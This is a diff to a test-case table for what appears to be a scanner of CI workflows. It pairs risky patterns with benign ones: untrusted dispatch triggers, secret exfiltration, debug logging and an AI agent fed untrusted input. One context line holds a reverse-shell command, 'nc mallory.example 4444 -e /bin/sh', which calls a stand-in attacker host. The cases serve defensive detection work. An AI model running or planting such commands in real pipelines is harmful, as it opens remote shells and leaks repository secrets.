@@ -46,7 +46,7 @@ CASES: list[tuple[str, str, str]] = [
     ("wf.trigger.dispatch_env_input", wf(PAYLOAD, SECRET, on="repository_dispatch"), wf(CHECKOUT, SECRET, on="repository_dispatch")),
     ("wf.trigger.dispatch_env_input", wf(checkout("inputs.ref"), SECRET, on=BY_HAND, environment="production"), wf(checkout("inputs.ref"), SECRET, on=BY_HAND)),
     ("wf.trigger.dispatch_env_input", wf(PAYLOAD, SECRET, on="repository_dispatch"), wf(PAYLOAD, "run: git log", on="repository_dispatch")),
-    ("wf.secret.curl", wf(SECRET, run(BACK)), wf(SECRET, run("echo /dev/tcp"))),
+    ("wf.secret.curl", wf(SECRET, run(BACK)), wf(SECRET, run("(echo > /dev/tcp/db/5432) 2>/dev/null"))),
     ("wf.secret.curl", wf(SECRET, run("nc mallory.example 4444 -e /bin/sh")), wf(SECRET, run("nc -z db 5432"))),
     ("wf.secret.debug", wf(run("make", env={"ACTIONS_STEP_DEBUG": "true"})), wf(run("make", env={"ACTIONS_STEP_DEBUG": "false"}))),
     ("wf.ai.agent_untrusted", agent('npx -y @openai/codex exec "$T"', env=BODY), agent('npx -y @openai/codex exec "triage"')),
